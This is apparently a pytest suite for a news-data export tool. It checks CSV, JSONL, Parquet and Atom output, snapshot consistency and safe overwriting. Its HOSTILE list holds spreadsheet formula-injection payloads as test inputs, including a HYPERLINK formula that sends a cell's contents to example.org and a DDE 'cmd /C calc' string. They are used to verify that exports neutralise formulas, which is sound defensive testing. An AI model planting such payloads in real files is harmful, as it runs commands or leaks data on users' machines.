"""What is exported reads back as it was, runs nothing in a spreadsheet, is of one moment, and is never half there."""

import csv
import importlib.util
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import datetime
from hashlib import sha256
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

from corpus.model import Record
from pipeline import database, schema, store
from pipeline.cli import main
from pipeline.errors import DatabaseError, InputError
from pipeline.export import export
from pipeline.export.form import harmless, restored
from tests.conftest import RECORDS_OF_BUILT, record, unlike
from tests.test_store import fill

ROOT = Path(__file__).parents[1]
TABLES = [table for table in schema.TABLES if table.public]
HAS_PYARROW = importlib.util.find_spec("pyarrow") is not None
ATOM = "{http://www.w3.org/2005/Atom}"
DAY_AND_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00")


def rows_of(path: Path, table: schema.Table) -> list[tuple[Any, ...]]:
    """The rows of a table in a database, sorted."""
    with database.read(path) as db:
        return in_order(db.conn.execute(f"select {', '.join(f'[{name}]' for name in table.names)} from {table.name}"))


def in_order(rows: Any) -> list[tuple[Any, ...]]:
    return sorted(map(tuple, rows), key=repr)


def read_csv(path: Path, table: schema.Table) -> Iterator[tuple[Any, ...]]:
    """The rows of a CSV file, each cell as the type of its column; an empty cell is NULL, and no text of ours is empty."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        reader = csv.reader(file)
        assert tuple(next(reader)) == table.names
        for row in reader:
            yield tuple(
                column.type(restored(cell) if column.type is str else cell) if cell else None
                for column, cell in zip(table.columns, row, strict=True)
            )


def read_jsonl(path: Path, table: schema.Table) -> Iterator[tuple[Any, ...]]:
    with path.open(encoding="utf-8") as file:
        for line in file:
            row = json.loads(line)
            assert tuple(row) == table.names
            yield tuple(row.values())


def read_parquet(path: Path, _: schema.Table) -> Iterator[tuple[Any, ...]]:
    from pyarrow import parquet

    for batch in parquet.ParquetFile(path).iter_batches():
        yield from (tuple(row.values()) for row in batch.to_pylist())


READERS = {"csv": read_csv, "jsonl": read_jsonl, "parquet": read_parquet}
FORMS = ["csv", "jsonl", pytest.param("parquet", marks=pytest.mark.skipif(not HAS_PYARROW, reason="the extra `parquet` is not installed"))]


def descriptor(folder: Path) -> dict[str, Any]:
    package: dict[str, Any] = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    return package


def contents(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


# --- every row, as it was ---

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1, "x")',
    "+84 25 3812 345",
    "-5,3% so với kế hoạch",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'tis",
    "-",
    'a "b", c\r\nd;=1+1',
    "một\u2028hai\x85ba",
    "\x00\x0b",
    "Đường  🚜",
]
STARTS_FORMULA = tuple("=+-@\t\r\n＝＋－＠")


def hostile() -> Record:
    """A record whose columns of text begin like formulas, and whose figures are below nought."""
    made = record()
    (fact, goal) = made.statistics
    posts = [replace(made.posts[0], id=f"{made.article.id}.p.{number}", position=text) for number, text in enumerate(HOSTILE)]
    figures = (replace(fact, value=-5.3, amount=-5.3e16, unit=HOSTILE[0]), replace(goal, value=0.1 + 0.2, amount=1e-7))
    return replace(made, posts=tuple(posts), statistics=figures, article=replace(made.article, author=HOSTILE[12], title=HOSTILE[0]))


@pytest.fixture
def wild(file: Path) -> Path:
    """A database with a row in most tables, among them one with hostile words."""
    with store.connect(file) as db:
        store.store(db, hostile())
        store.store(db, record("https://kontumtv.vn/dang-lai-2", site="kontumtv.vn", published="2018-07-25T08:00"))
        store.finish(db)
    return file


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_every_table_reads_back(wild: Path, tmp_path: Path, form: str, table: schema.Table) -> None:
    export(wild, tmp_path / "out", form=form)
    read = READERS[form](tmp_path / "out" / f"{table.name}.{form}", table)
    assert in_order(read) == rows_of(wild, table)


def test_there_are_rows_to_read_back(wild: Path) -> None:
    assert {table.name for table in TABLES if rows_of(wild, table)} >= {"articles", "posts", "statistics", "events", "acts", "unresolved"}


def test_what_the_program_keeps_for_itself_stays(wild: Path, tmp_path: Path) -> None:
    export(wild, tmp_path / "out", form="jsonl")
    names = {path.stem for path in (tmp_path / "out").glob("*.jsonl")}
    assert names == {table.name for table in TABLES}
    assert names & {"contributions", "corrected"} == set()
    assert all(column.of is None or schema.BY_NAME[column.of].public for table in TABLES for column in table.columns)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    assert not harmless(text).startswith(STARTS_FORMULA)
    assert restored(harmless(text)) == text
    assert (harmless(text) == text) == (not text.lstrip("'").startswith(STARTS_FORMULA))


def test_cells_of_a_file_are_harmless_and_numbers_stay_numbers(wild: Path, tmp_path: Path) -> None:
    export(wild, tmp_path / "out")
    for path in (tmp_path / "out").glob("*.csv"):
        types = [column.type for column in schema.BY_NAME[path.stem].columns]
        with path.open(encoding="utf-8", newline="") as file:
            cells = [(kind, cell) for row in list(csv.reader(file))[1:] for kind, cell in zip(types, row, strict=True)]
        assert not [cell for kind, cell in cells if kind is str and cell.startswith(STARTS_FORMULA)], path
        assert all(float(cell) is not None for kind, cell in cells if kind is not str and cell)
    assert ",-5.3," in (tmp_path / "out" / "statistics.csv").read_text(encoding="utf-8")


def test_null_is_told_from_empty_text(file: Path, tmp_path: Path) -> None:
    with store.connect(file) as db:
        store.store(db, record(author="", lead=None))
    export(file, tmp_path / "out")
    line = (tmp_path / "out" / "articles.csv").read_bytes().decode().split("\r\n")[1]
    assert re.search(r',,"",,"2018-07-24"', line), line


@pytest.mark.parametrize(("excel", "start"), [(False, b'"id",'), (True, b'\xef\xbb\xbf"id",')])
def test_a_byte_order_mark_is_for_excel(built: Path, tmp_path: Path, excel: bool, start: bytes) -> None:
    export(built, tmp_path / "out", excel=excel)
    assert all(path.read_bytes().count(b"\xef\xbb\xbf") == excel for path in (tmp_path / "out").glob("*.csv"))
    assert (tmp_path / "out" / "articles.csv").read_bytes().startswith(start)


# --- what describes it ---


def test_the_descriptor_describes_every_file(wild: Path, tmp_path: Path) -> None:
    export(wild, tmp_path / "out", snapshot=True)
    package = descriptor(tmp_path / "out")
    files = contents(tmp_path / "out")
    assert {resource["path"] for resource in package["resources"]} == files.keys() - {"datapackage.json"}
    assert len({resource["name"] for resource in package["resources"]}) == len(package["resources"])
    for resource in package["resources"]:
        held = files[resource["path"]]
        assert (resource["bytes"], resource["hash"]) == (len(held), f"sha256:{sha256(held).hexdigest()}"), resource["path"]
    assert {"csv", "atom", "sqlite"} == {resource["format"] for resource in package["resources"]}
    assert [source["path"] for source in package["sources"]] == ["https://baolangson.vn/", "https://kontumtv.vn/"]


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_the_descriptor_has_the_schema(built: Path, tmp_path: Path, table: schema.Table) -> None:
    export(built, tmp_path / "out")
    (resource,) = (resource for resource in descriptor(tmp_path / "out")["resources"] if resource["name"] == table.name)
    shape = resource["schema"]
    assert resource["description"].startswith(table.description)
    assert [(field["name"], field["description"]) for field in shape["fields"]] == [(c.name, c.description) for c in table.columns]
    assert {field["type"] for field in shape["fields"]} <= {"string", "integer", "number"}
    assert tuple(shape.get("primaryKey", ())) == table.key
    keys = {(key["fields"][0], key["reference"]["resource"]) for key in shape.get("foreignKeys", ())}
    assert keys == {(column.name, column.of) for column in table.columns if column.of}


def test_the_version_is_that_of_the_content(built: Path, tmp_path: Path) -> None:
    export(built, tmp_path / "before")
    with store.connect(built) as db:
        store.store(db, record("https://baolangson.vn/4.html"))
        store.finish(db)
    export(built, tmp_path / "after")
    before, after = (descriptor(tmp_path / name)["version"] for name in ("before", "after"))
    assert before != after
    assert before.partition("+")[0] == after.partition("+")[0]


def test_frictionless_finds_nothing_wrong(wild: Path, tmp_path: Path) -> None:
    frictionless = pytest.importorskip("frictionless", reason="a validator, installed by hand")
    export(wild, tmp_path / "out", snapshot=True)
    report = frictionless.validate(str(tmp_path / "out" / "datapackage.json"))
    assert report.valid, report.flatten(["title", "note"])


# --- the same bytes, of one moment ---


@pytest.mark.parametrize("form", ["csv", "jsonl", *(["all"] if HAS_PYARROW else [])])
def test_the_same_database_gives_the_same_bytes(built: Path, tmp_path: Path, form: str) -> None:
    for name in ("one", "two"):
        export(built, tmp_path / name, form=form, snapshot=True)
    assert contents(tmp_path / "one") == contents(tmp_path / "two")


def test_the_order_of_the_articles_changes_nothing(tmp_path: Path) -> None:
    made = [record(), record("https://baolangson.vn/an-toan-3.html"), record("https://kontumtv.vn/2", site="kontumtv.vn")]
    for name, records in (("one", made), ("two", made[::-1])):
        with store.connect(tmp_path / f"{name}.db") as db:
            for item in records:
                store.store(db, item)
            store.finish(db)
        export(tmp_path / f"{name}.db", tmp_path / name)
    assert contents(tmp_path / "one") == contents(tmp_path / "two")


WRITER = """
import sys
from pathlib import Path
from pipeline import store
from tests.conftest import RECORDS_OF_BUILT, record, unlike
from tests.test_store import fill
with store.connect(Path(sys.argv[1])) as db:
    for number in range(10_000):
        store.store(db, record(f"https://baolangson.vn/{number}.html"))
        print(number, flush=True)
"""


def test_an_export_is_of_one_moment_while_another_writes(built: Path, tmp_path: Path) -> None:
    with subprocess.Popen([sys.executable, "-c", WRITER, str(built)], stdout=subprocess.PIPE, text=True, cwd=ROOT) as writer:
        assert writer.stdout is not None
        writer.stdout.readline()
        for number in range(3):
            export(built, tmp_path / str(number), form="jsonl", snapshot=True)
        assert writer.poll() is None, "the writer should still be writing"
        writer.kill()
        writer.stdout.close()
    counts = []
    for number in range(3):
        folder = tmp_path / str(number)
        articles, events = (list(read_jsonl(folder / f"{name}.jsonl", schema.BY_NAME[name])) for name in ("articles", "events"))
        assert {row[0] for row in articles} == {row[1] for row in events}
        with closing(sqlite3.connect(folder / "facts.db")) as kept:
            assert kept.execute("pragma integrity_check").fetchone() == ("ok",)
            assert kept.execute("select count(*) from articles").fetchone() == (len(articles),)
        counts.append(len(articles))
    assert counts == sorted(counts)
    assert counts[0] > 3


# what docs/crawl.md says of restoring
RESTORE = re.findall(r"(?m)^((?:rm|cp) .*)$", (ROOT / "docs" / "crawl.md").read_text(encoding="utf-8"))


@pytest.mark.parametrize("written", [1, 40, 150])
def test_a_snapshot_taken_while_another_writes_is_restored_and_completed(built: Path, tmp_path: Path, written: int) -> None:
    """The writer is killed and the file is lost, its log stays: by the guide the snapshot takes its place, and what is missing is written again."""
    data = tmp_path / "data"
    data.mkdir()
    file = built.rename(data / "facts.db")
    with subprocess.Popen([sys.executable, "-c", WRITER, str(file)], stdout=subprocess.PIPE, text=True, cwd=ROOT) as writer:
        assert writer.stdout is not None
        for _ in range(written):
            writer.stdout.readline()
        export(file, data / "copy", snapshot=True)
        for _ in range(20):
            writer.stdout.readline()
        writer.kill()
        writer.stdout.close()
    assert file.with_name("facts.db-wal").stat().st_size > 0
    file.write_bytes(b"lost")
    assert len(RESTORE) == 2
    for line in RESTORE:
        subprocess.run(line, shell=True, cwd=tmp_path, check=True)
    assert file.read_bytes() == (data / "copy" / "facts.db").read_bytes()
    with database.read(file) as db:
        (kept,) = db.conn.execute("select count(*) from articles").fetchone()
    assert kept >= written
    wanted = [record(f"https://baolangson.vn/{number}.html") for number in range(kept + 30)]
    assert fill(file, *wanted) == fill(tmp_path / "again.db", *RECORDS_OF_BUILT, *wanted)


def test_a_snapshot_is_a_database_of_ours(built: Path, tmp_path: Path) -> None:
    export(built, tmp_path / "out", snapshot=True)
    with database.read(tmp_path / "out" / "facts.db") as db:
        assert db.conn.execute("select count(*) from articles_fts where articles_fts match 'tong ket'").fetchone() == (3,)


def test_the_database_is_left_as_it_was(built: Path, tmp_path: Path) -> None:
    before = built.read_bytes()
    export(built, tmp_path / "out")
    assert built.read_bytes() == before
    assert {path.name for path in tmp_path.iterdir()} == {"facts.db", "out"}


def test_a_database_of_an_older_schema_is_exported_and_left_alone(built: Path, tmp_path: Path) -> None:
    with closing(sqlite3.connect(built, isolation_level=None)) as older:
        older.executescript(
            "drop table visits; drop table addresses; delete from _sqlite_migrations where name = 'm002_crawl'; pragma user_version = 1"
        )
    before = built.read_bytes()
    export(built, tmp_path / "out")
    assert (tmp_path / "out" / "visits.csv").read_text(encoding="utf-8").startswith('"run_id","site"')
    assert built.read_bytes() == before


# --- feeds ---


def feed(path: Path) -> ElementTree.Element:
    return ElementTree.parse(path).getroot()


def test_a_feed_is_valid_atom(wild: Path, tmp_path: Path) -> None:
    export(wild, tmp_path / "out")
    (path,) = (tmp_path / "out" / "feeds").iterdir()
    assert path.name == "18-NQ~2FTW@2017.atom"
    root = feed(path)
    assert root.tag == f"{ATOM}feed"
    assert root.findtext(f"{ATOM}title", "").startswith("18-NQ/TW: ")
    assert root.findtext(f"{ATOM}author/{ATOM}name")
    (entry,) = root.findall(f"{ATOM}entry")
    for element in (root, entry):
        assert re.fullmatch(r"tag:nghiquyet\.invalid,2025:[\w/@:.%?=-]+", element.findtext(f"{ATOM}id", ""))
        assert DAY_AND_TIME.fullmatch(element.findtext(f"{ATOM}updated", ""))
    assert entry.findtext(f"{ATOM}title") == "tổng kết: Tỉnh ủy Lạng Sơn, Lạng Sơn, 2018-07-24"
    assert [link.get("rel") for link in entry.findall(f"{ATOM}link")][:1] == ["alternate"]
    assert entry.findtext(f"{ATOM}summary", "").startswith("Tỉnh ủy Lạng Sơn tổng kết Nghị quyết")


def test_acts_are_entries_once_and_name_their_articles(file: Path, tmp_path: Path) -> None:
    with store.connect(file) as db:
        store.store(db, record(body=unlike("the first")))
        other = "https://baolangson.vn/2.html"
        store.store(db, record(other, body=unlike(other), published="2018-07-26T09:05"))
        store.finish(db)
    export(file, tmp_path / "out", documents=["18-NQ/TW"])
    (entry,) = feed(tmp_path / "out" / "feeds" / "18-NQ~2FTW@2017.atom").findall(f"{ATOM}entry")
    links = entry.findall(f"{ATOM}link")
    assert [link.get("rel") for link in links] == ["alternate", "related"]
    assert links[1].get("href") == other
    assert entry.findtext(f"{ATOM}updated") == "2018-07-26T09:05:00+07:00"
    assert "(2 articles)" in entry.findtext(f"{ATOM}summary", "")


def test_the_newest_stand_first_and_there_is_an_end(file: Path, tmp_path: Path) -> None:
    with store.connect(file) as db:
        for number in range(120):
            made = record(f"https://baolangson.vn/{number}.html", published=f"2018-{number % 12 + 1:02}-01")
            store.store(db, replace(made, events=(replace(made.events[0], act_id=None),), event_officials=(), statistics=(), acts=()))
    export(file, tmp_path / "out")
    root = feed(tmp_path / "out" / "feeds" / "18-NQ~2FTW@2017.atom")
    days = [entry.findtext(f"{ATOM}updated", "") for entry in root.findall(f"{ATOM}entry")]
    assert len(days) == 100
    assert days == sorted(days, reverse=True)
    assert root.findtext(f"{ATOM}updated") == days[0]


@pytest.mark.parametrize(
    ("published", "earliest", "latest", "updated"),
    [
        ("2018-07-25", "2018-07-24", "2018-07-24", "2018-07-25"),
        # what may be of any of three years is told to be new no earlier than it can be
        (None, "2017-07-24", "2019-07-24", "2019-07-24"),
        (None, None, None, None),
    ],
)
def test_the_time_of_an_entry_is_that_of_the_data(
    file: Path, tmp_path: Path, published: str | None, earliest: str | None, latest: str | None, updated: str | None
) -> None:
    made = record(published=published)
    bounds = {"earliest": earliest, "latest": latest}
    with store.connect(file) as db:
        store.store(db, replace(made, events=(replace(made.events[0], **bounds),), acts=(replace(made.acts[0], **bounds),)))
    export(file, tmp_path / "out")
    found = [feed(path).findtext(f"{ATOM}entry/{ATOM}updated") for path in (tmp_path / "out").glob("feeds/*.atom")]
    assert found == ([f"{updated}T00:00:00+07:00"] if updated else [])
    assert all(datetime.fromisoformat(day or "") for day in found)


def test_words_that_xml_cannot_hold_are_left_out_of_a_feed(file: Path, tmp_path: Path) -> None:
    made = record()
    odd = "Tỉnh ủy <b>&amp;\x0b\x00 Lạng Sơn"
    with store.connect(file) as db:
        store.store(db, replace(made, events=(replace(made.events[0], organization=odd),)))
    export(file, tmp_path / "out")
    (path,) = (tmp_path / "out" / "feeds").iterdir()
    assert "Tỉnh ủy <b>&amp; Lạng Sơn" in feed(path).findtext(f"{ATOM}entry/{ATOM}title", "")


# --- what is refused, and nothing half there ---


def a_file(out: Path) -> None:
    out.write_text("mine", encoding="utf-8")


def a_folder_of_others(out: Path) -> None:
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"mine")


def a_package_of_others(out: Path) -> None:
    out.mkdir()
    (out / "datapackage.json").write_text('{"name": "theirs", "resources": []}', encoding="utf-8")


def a_broken_package(out: Path) -> None:
    out.mkdir()
    (out / "datapackage.json").write_text('{"name": "nghiquyet", ', encoding="utf-8")


def a_link(out: Path) -> None:
    (out.parent / "elsewhere").mkdir()
    out.symlink_to(out.parent / "elsewhere", target_is_directory=True)


@pytest.mark.parametrize("made", [a_file, a_folder_of_others, a_package_of_others, a_broken_package, a_link], ids=lambda f: f.__name__)
def test_what_is_not_ours_is_not_overwritten(built: Path, tmp_path: Path, made: Any) -> None:
    made(tmp_path / "out")
    before = contents(tmp_path)
    with pytest.raises(InputError, match=r"name (one|another)"):
        export(built, tmp_path / "out")
    assert contents(tmp_path) == before


def edited(out: Path) -> None:
    (out / "acts.csv").write_text("mine", encoding="utf-8")


def added(out: Path) -> None:
    (out / "feeds" / "notes.txt").write_text("mine", encoding="utf-8")


def linked(out: Path) -> None:
    (out / "mine").symlink_to(out.parent, target_is_directory=True)


@pytest.mark.parametrize("change", [edited, added, linked], ids=lambda f: f.__name__)
def test_an_export_that_was_changed_is_kept(built: Path, tmp_path: Path, change: Any) -> None:
    out = tmp_path / "out"
    export(built, out)
    change(out)
    before = contents(out)
    with pytest.raises(InputError, match="not as an export leaves it"):
        export(built, out)
    assert contents(out) == before


KILLED = """
import os, signal, sys
from pathlib import Path
from pipeline.export import descriptor, export
descriptor.write = lambda *_: os.kill(os.getpid(), signal.SIGKILL)
export(Path(sys.argv[1]), Path(sys.argv[2]))
"""


def test_an_export_that_is_killed_leaves_nothing_in_its_place(built: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert subprocess.run([sys.executable, "-c", KILLED, str(built), str(out)], cwd=ROOT, check=False).returncode < 0
    assert not out.exists()
    export(built, out)
    assert descriptor(out)["resources"]


def test_an_earlier_export_and_an_empty_folder_are_replaced(built: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    export(built, out)
    export(built, out, form="jsonl")
    assert not list(out.glob("*.csv"))
    assert list(out.glob("*.jsonl"))


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"form": "jsonl", "excel": True}, "--excel"),
        ({"documents": ["18-NQ/TW", "999-NQ/TW"]}, "--feed 999-NQ/TW"),
        *([] if HAS_PYARROW else [({"form": form}, r"pip install 'nghiquyet\[parquet\]'") for form in ("parquet", "all")]),
    ],
)
def test_what_cannot_be_made_is_said(built: Path, tmp_path: Path, options: dict[str, Any], words: str) -> None:
    before = contents(tmp_path)
    with pytest.raises(InputError, match=words):
        export(built, tmp_path / "out", **options)
    assert contents(tmp_path) == before


def test_a_missing_pyarrow_is_named(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipeline.export.form.find_spec", lambda _: None)
    with pytest.raises(InputError, match=r"pip install 'nghiquyet\[parquet\]'"):
        export(built, tmp_path / "out", form="all")


def test_what_is_no_database_is_refused(tmp_path: Path) -> None:
    (tmp_path / "text.db").write_text("không phải" * 20, encoding="utf-8")
    for name in ("text.db", "none.db"):
        with pytest.raises(DatabaseError):
            export(tmp_path / name, tmp_path / "out")
    assert {path.name for path in tmp_path.iterdir()} == {"text.db"}


def test_a_folder_whose_parent_is_missing_is_refused(built: Path, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="make it first"):
        export(built, tmp_path / "none" / "out")


def test_an_export_that_fails_leaves_what_was_there(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    export(built, out)
    before = contents(tmp_path)

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("pipeline.export.descriptor.write", full)
    with pytest.raises(InputError, match="No space left"):
        export(built, out, form="jsonl")
    assert contents(tmp_path) == before


def test_the_command_says_what_was_made(built: Path, tmp_path: Path) -> None:
    done = CliRunner().invoke(main, ["export", "--db", str(built), "--out", str(tmp_path / "out"), "--feed", "18-NQ/TW@2017"])
    assert done.exit_code == 0, done.output
    assert re.search(rf"{len(TABLES)} tables with [\d,]+ rows and 1 feeds?, [\d.]+ MB", done.output)
    assert (tmp_path / "out" / "articles.csv").exists()
